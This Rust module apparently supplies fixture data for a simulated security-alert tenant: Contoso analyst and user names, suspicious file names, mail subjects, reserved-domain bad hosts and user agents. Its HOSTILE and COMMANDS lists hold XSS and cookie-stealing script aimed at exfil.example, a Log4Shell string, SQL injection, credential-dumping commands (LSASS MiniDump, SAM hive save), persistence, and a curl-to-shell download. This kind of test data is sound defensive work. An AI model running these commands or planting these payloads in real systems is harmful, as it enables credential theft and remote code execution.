//! Names and texts that the invented tenant is made of. Domains are contoso's and the documentation's, addresses come
//! from documentation ranges, and some texts are hostile on purpose: whoever shows them must not obey them.

/// Who works on alerts.
pub(super) const ANALYSTS: &[&str] = &[
    "soc.tier1@contoso.com",
    "diego.siciliani@contoso.com",
    "adele.vance@contoso.com",
    "night shift",
    "Automation",
    "joni.sherman@contoso.com",
];

/// First names with the form an address uses.
pub(super) const FIRST: &[(&str, &str)] = &[
    ("Adele", "adele"),
    ("Alex", "alex"),
    ("Allan", "allan"),
    ("Amira", "amira"),
    ("Björn", "bjorn"),
    ("Carlos", "carlos"),
    ("Chidi", "chidi"),
    ("Christie", "christie"),
    ("Debra", "debra"),
    ("Diego", "diego"),
    ("Emily", "emily"),
    ("Fatima", "fatima"),
    ("Grady", "grady"),
    ("Henrietta", "henrietta"),
    ("Irvin", "irvin"),
    ("Isaiah", "isaiah"),
    ("Johanna", "johanna"),
    ("Joni", "joni"),
    ("José", "jose"),
    ("Kenji", "kenji"),
    ("Lee", "lee"),
    ("Lidia", "lidia"),
    ("Łukasz", "lukasz"),
    ("Lynne", "lynne"),
    ("Megan", "megan"),
    ("Miriam", "miriam"),
    ("Nestor", "nestor"),
    ("Noor", "noor"),
    ("Patti", "patti"),
    ("Pradeep", "pradeep"),
    ("Raul", "raul"),
    ("Sofía", "sofia"),
    ("伟", "wei"),
    ("Yusuf", "yusuf"),
    ("Zoë", "zoe"),
];

/// Last names with the form an address uses.
pub(super) const LAST: &[(&str, &str)] = &[
    ("Vance", "vance"),
    ("Wilber", "wilber"),
    ("Deyoung", "deyoung"),
    ("Haddad", "haddad"),
    ("Lindqvist", "lindqvist"),
    ("Grilo", "grilo"),
    ("Okafor", "okafor"),
    ("Cline", "cline"),
    ("Berger", "berger"),
    ("Siciliani", "siciliani"),
    ("Braun", "braun"),
    ("Zahra", "zahra"),
    ("Archie", "archie"),
    ("Mueller", "mueller"),
    ("Sayers", "sayers"),
    ("Langer", "langer"),
    ("Lorenz", "lorenz"),
    ("Sherman", "sherman"),
    ("Muñoz", "munoz"),
    ("Tanaka", "tanaka"),
    ("Gu", "gu"),
    ("Holloway", "holloway"),
    ("Nowak", "nowak"),
    ("Robbins", "robbins"),
    ("Bowen", "bowen"),
    ("Graham", "graham"),
    ("Wilke", "wilke"),
    ("Rahman", "rahman"),
    ("Fernandez", "fernandez"),
    ("Gupta", "gupta"),
    ("O'Neil", "oneil"),
    ("Castro", "castro"),
    ("陈", "chen"),
    ("Demir", "demir"),
    ("van Dijk", "vandijk"),
];

/// Departments.
pub(super) const DEPARTMENTS: &[&str] =
    &["Finance", "Sales", "Engineering", "Legal", "Operations", "Marketing", "People", "Research"];

/// Programs and documents as an intruder or a careless colleague names them.
pub(super) const FILES: &[(&str, &str)] = &[
    ("invoice_7731.pdf.exe", "C:\\Users\\{user}\\Downloads"),
    ("update-helper.exe", "C:\\Users\\{user}\\AppData\\Local\\Temp"),
    ("svchosts.exe", "C:\\ProgramData\\Intel"),
    ("Quarterly forecast (final).xlsm", "C:\\Users\\{user}\\Documents\\Finance"),
    ("rubeus.exe", "C:\\Windows\\Temp"),
    ("procdump64.exe", "C:\\Tools"),
    ("安装盘 2024.iso", "D:\\软件\\安装盘"),
    ("Éléments supprimés.pst", "C:\\Users\\{user}\\Boîte de réception"),
    ("payload.dll", "C:\\Users\\Public"),
    ("delivery note.js", "C:\\Users\\{user}\\Downloads"),
    ("chrome_proxy.exe", "C:\\Program Files (x86)\\Google\\Chrome"),
    ("backup.vbs", "\\\\srv-files-01\\share$\\scripts"),
    ("lock.sh", "/tmp/.x11"),
    ("kworkerds", "/var/tmp"),
];

/// Texts that would do something if they were treated as markup, code or formatting.
pub(super) const HOSTILE: &[&str] = &[
    "<img src=x onerror=alert(1)>.exe",
    "<script>fetch('https://exfil.example/'+document.cookie)</script>.docm",
    "\"><svg onload=alert(1)>.lnk",
    "${jndi:ldap://exfil.example/a}.log",
    "=HYPERLINK(\"https://exfil.example\",\"open\").csv",
    "invoice\u{202e}fdp.exe",
    "%00../../../../etc/passwd",
    "'; DROP TABLE alerts; --.sql",
];

/// Command lines; `{file}` is the file at hand.
pub(super) const COMMANDS: &[&str] = &[
    "\"{file}\" /quiet /norestart",
    "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "cmd.exe /c \"{file}\" & whoami /all > %TEMP%\\w.txt",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full",
    "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv",
    "net.exe group \"Domain Admins\" /domain",
    "mshta.exe javascript:alert('<b>x</b>');close()",
    "schtasks /create /sc minute /mo 15 /tn Updater /tr \"{file}\"",
    "/bin/sh -c 'curl -fsSL https://cdn.exfil.example/i.sh | sh'",
    "wmic.exe /node:srv-dc-01 process call create \"{file}\"",
];

/// Subjects of mail.
pub(super) const SUBJECTS: &[&str] = &[
    "Action required: your mailbox is almost full",
    "Invoice 88412 overdue",
    "RE: RE: contract renewal",
    "Ihre Sendung konnte nicht zugestellt werden",
    "【重要】アカウントの確認",
    "Voicemail (00:41) from +1 555 0100",
    "<b>Payroll</b> update <script>alert('subject')</script>",
    "Shared with you: \"Salary bands.xlsx\"",
    "Überweisung fällig – bitte prüfen",
];

/// Hosts of bad links, all in reserved names.
pub(super) const BAD_HOSTS: &[&str] = &[
    "login-contoso.example",
    "cdn.exfil.example",
    "docs-share.example.net",
    "update.example.org",
    "parcel-track.example",
    "xn--cntoso-jua.example",
    "mail-secure.example.com",
];

/// Cities with country, region and place.
pub(super) const PLACES: &[(&str, &str, &str, &str, f64, f64)] = &[
    ("Zürich", "Zürich", "Switzerland", "CH", 47.3769, 8.5417),
    ("Lagos", "Lagos", "Nigeria", "NG", 6.5244, 3.3792),
    ("São Paulo", "São Paulo", "Brazil", "BR", -23.5505, -46.6333),
    ("Osaka", "Osaka", "Japan", "JP", 34.6937, 135.5023),
    ("Redmond", "Washington", "United States", "US", 47.674, -122.1215),
    ("Tallinn", "Harju", "Estonia", "EE", 59.437, 24.7536),
];

/// Browsers as they introduce themselves.
pub(super) const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "axios/1.7.2",
    "python-requests/2.32.3",
];
